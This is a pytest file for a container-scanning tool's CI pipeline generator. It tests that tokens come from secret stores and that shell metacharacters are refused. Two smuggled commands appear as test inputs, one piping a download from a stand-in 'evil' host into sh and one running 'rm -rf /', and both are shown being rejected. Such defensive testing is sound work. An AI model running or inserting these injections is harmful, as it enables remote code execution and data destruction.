"""CI snippets: the token is always a CI secret, values that could break out of the shell
command are refused, report-only mode lets a policy failure through and nothing else."""

from __future__ import annotations

import subprocess

import pytest

from portcullis.errors import ConfigError
from portcullis.pipeline import PipelineSpec, render


def spec(**changes: object) -> PipelineSpec:
    base: dict[str, object] = {"system": "jenkins", "scenario": "local", "image": "app:1.0",
                               "server": "http://console:8080", "project": "shop"}
    return PipelineSpec(**{**base, **changes})  # type: ignore[arg-type]


def test_jenkins_uses_with_credentials_and_never_the_token() -> None:
    text = render(spec())
    assert "withCredentials([string(credentialsId: 'portcullis-token-shop', " \
           "variable: 'PORTCULLIS_TOKEN')])" in text
    assert "sh '''" in text  # Groovy does not interpolate: the shell expands the secret
    assert "docker pull ghcr.io/portcullis/portcullis:" in text
    assert "scan docker-daemon:app:1.0 --fail-on high" in text
    assert "docker run --rm -v /var/run/docker.sock:/var/run/docker.sock" in text
    assert "-e PORTCULLIS_TOKEN " in text and "--token" not in text


def test_remote_scenario_binds_registry_credentials_too() -> None:
    text = render(spec(scenario="remote"))
    assert "scan registry:app:1.0" in text
    assert "usernamePassword(credentialsId: 'registry-credentials'" in text
    assert "/var/run/docker.sock" not in text


@pytest.mark.parametrize("system", ["github", "gitlab"])
def test_other_systems_reference_their_secret_store(system: str) -> None:
    text = render(spec(system=system))
    assert ("${{ secrets.PORTCULLIS_TOKEN }}" in text) == (system == "github")
    assert "-e PORTCULLIS_TOKEN " in text


@pytest.mark.parametrize("field", ["image", "server", "project"])
def test_shell_metacharacters_are_refused(field: str) -> None:
    with pytest.raises(ConfigError, match="goes into a shell command"):
        render(spec(**{field: "app:1.0; curl evil | sh"}))


@pytest.mark.parametrize(("code", "pipeline_goes_on"), [(0, True), (1, True), (2, False)])
def test_report_only_tolerates_a_policy_failure_only(code: int, pipeline_goes_on: bool) -> None:
    line = next(x for x in render(spec(blocking=False)).splitlines() if "||" in x)
    tail = line[line.index("||"):]
    shell = f"(exit {code}) {tail}"
    assert (subprocess.run(["sh", "-c", shell], check=False).returncode == 0) == pipeline_goes_on


def test_the_cli_prints_the_same_snippet() -> None:
    from tests.conftest import run_cli

    done = run_cli("pipeline", "jenkins", "--image", "app:1.0", "--server",
                   "http://console:8080", "--project", "shop")
    assert done.returncode == 0, done.stderr
    assert done.stdout == render(spec())
    bad = run_cli("pipeline", "gitlab", "--image", "app;rm -rf /", "--server", "http://c",
                  "--project", "shop")
    assert bad.returncode == 2 and "goes into a shell command" in bad.stderr
